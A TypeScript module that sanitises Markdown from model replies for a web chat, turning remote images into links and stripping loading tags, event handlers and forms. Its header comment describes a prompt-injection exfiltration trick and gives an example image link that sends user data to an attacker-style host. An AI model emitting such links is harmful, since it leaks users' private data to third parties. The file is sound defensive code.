/**
 * Markdown to sanitised HTML. Model output is untrusted: scripts, handlers and odd URLs are removed, and
 * nothing in it loads on its own. A remote image is an exfiltration channel (a prompt-injected model
 * writes `![](https://attacker.example/?q=<your data>)` and the browser sends it), so Markdown images
 * become plain links the reader may choose to follow, and raw HTML that would fetch something (img,
 * picture, video, audio, srcset, poster, background) is dropped. data: images are dropped too: they
 * cannot leak, but they are a way to show convincing fake UI. The web chat's CSP (`img-src 'self'`)
 * is the second line: whatever slipped past here is still not loaded.
 *
 * Chromium checks the CSP as soon as it parses an inline event handler attribute, even in an inert document
 * (DOMParser, <template>): `<img onerror=…>` in a reply would log a CSP refusal on every render. So before
 * DOMPurify parses anything, raw HTML from the model has its `on…=` attributes renamed to an attribute no
 * browser runs (and DOMPurify then drops). This is hygiene, not the defence: DOMPurify still removes whatever
 * a pattern misses, and the CSP still refuses it.
 */

import DOMPurify from "dompurify";
import { Marked, type Tokens } from "marked";

const REMOTE = /^https?:\/\//i;

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

const TAG = /<[a-z][^>]*>/gi;
const HANDLER = /([\s/"'])on([a-z]+\s*=)/gi;

/** Raw HTML with its event handler attributes made inert (`onerror=` → `x-onerror=`), tags only, text untouched. */
export function inertHandlers(html: string): string {
  return html.replace(TAG, (tag) => tag.replace(HANDLER, "$1x-on$2"));
}

const marked = new Marked({
  gfm: true,
  breaks: true,
  async: false,
  renderer: {
    html({ text }: Tokens.HTML | Tokens.Tag): string {
      return inertHandlers(text);
    },
    image({ href, text }: Tokens.Image): string {
      const label = escapeHtml(text.trim() || "image");
      if (!REMOTE.test(href)) return label;
      return `<a href="${escapeHtml(href)}" data-md-image="">Image: ${label}</a>`;
    },
  },
});

// Tags and attributes that make the browser fetch something by themselves (before any click).
const LOADING_TAGS = ["img", "picture", "source", "video", "audio", "track", "image", "object", "embed", "link"];
const LOADING_ATTRS = ["src", "srcset", "poster", "background", "ping", "lowsrc", "dynsrc", "xlink:href"];

let hooked = false;
function hook(): void {
  if (hooked) return;
  hooked = true;
  // Links open in a new tab without giving the page a handle on ours.
  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "A") {
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer nofollow");
    }
  });
}

export function renderMarkdown(text: string): string {
  hook();
  const html = marked.parse(text) as string;
  return DOMPurify.sanitize(html, {
    USE_PROFILES: { html: true },
    FORBID_TAGS: ["style", "form", "input", "button", "textarea", "select", "iframe", ...LOADING_TAGS],
    FORBID_ATTR: ["style", "action", "formaction", ...LOADING_ATTRS],
  });
}
